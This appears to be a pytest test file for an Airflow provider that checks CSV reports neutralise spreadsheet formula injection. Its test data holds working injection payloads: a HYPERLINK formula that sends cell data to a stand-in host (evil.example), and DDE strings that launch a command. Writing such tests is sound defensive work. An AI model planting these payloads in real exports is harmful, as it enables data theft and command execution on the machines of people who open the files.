"""Hostile answers and secret hygiene (issue 11): formula-safe CSV reports, no API key in any log,
a whole-request deadline, and typed errors for every bad body.

Everything runs over real sockets: the simulator, or tiny loopback servers
(:mod:`tests.reliability.servers`). pytest-mock patches only seams (the hook's clock).
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from airflow_provider_learnifier.hooks.learnifier import LearnifierHook
from airflow_provider_learnifier.operators.reporting import LearnifierProgressReportOperator
from airflow_provider_learnifier.simulator import LearnifierSimulator
from tests.reliability.test_hostile_input import CONNECTION_VARIABLE, FAST, KEY, SECRET

# ---------------------------------------------------------------------- CSV formula injection

#: Text a spreadsheet would evaluate, one per way a formula can start.
FORMULAS = {
    "project_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "project_external_id": "+cmd|' /C calc'!A0",
    "user_external_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "user_email": "-2+3+cmd@example.com",
    "participation_external_id": "\t=1+1",
    "error_message": "\r=1+1",
}


@pytest.fixture
def formula_account(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[LearnifierSimulator, str]]:
    """A simulator whose one project holds hostile text in every text column of the report."""
    with LearnifierSimulator(key=KEY, secret=SECRET, seed="demo") as sim:
        monkeypatch.setenv(CONNECTION_VARIABLE, sim.connection_json(FAST))
        hook = LearnifierHook()
        project = hook.create_project(
            1001,
            name=FORMULAS["project_name"],
            design_id=101,
            external_id=FORMULAS["project_external_id"],
        )
        user_id = hook.create_user(
            primary_email=FORMULAS["user_email"], external_id=FORMULAS["user_external_id"]
        )
        participant_id = hook.add_participant(
            1001, project["id"], user_id=user_id, external_id=FORMULAS["participation_external_id"]
        )
        assert participant_id is not None
        sim.state.set_participant_error(participant_id, FORMULAS["error_message"])
        hook.close()
        yield sim, str(project["id"])


def _report(path: Path, project_id: str, **arguments: Any) -> list[dict[str, str]]:
    LearnifierProgressReportOperator(
        task_id="report", path=str(path), org_id=1001, project_ids=[project_id], **arguments
    ).execute({})
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(formula_account, tmp_path):
    """Before the fix every hostile value was written as it came (fails on the old writer)."""
    _, project_id = formula_account
    (row,) = _report(tmp_path / "report.csv", project_id)
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    # Numbers the report writes itself stay numbers; ids and timestamps are untouched.
    assert row["activities_completed"] == "0"
    assert row["activities_total"] == "5"
    assert row["completion_share"] == "0.0"
    assert row["project_id"] == project_id
    assert row["in_error"] == "true"


def test_the_formula_guard_can_be_turned_off_and_json_lines_are_unchanged(formula_account, tmp_path):
    _, project_id = formula_account
    (row,) = _report(tmp_path / "raw.csv", project_id, csv_formula_guard=False)
    for column, value in FORMULAS.items():
        assert row[column] == value, column
    target = tmp_path / "report.jsonl"
    LearnifierProgressReportOperator(
        task_id="report", path=str(target), org_id=1001, project_ids=[project_id]
    ).execute({})
    (line,) = target.read_text(encoding="utf-8").splitlines()
    record = json.loads(line)
    for column, value in FORMULAS.items():
        assert record[column] == value, column
    assert record["activities_total"] == 5
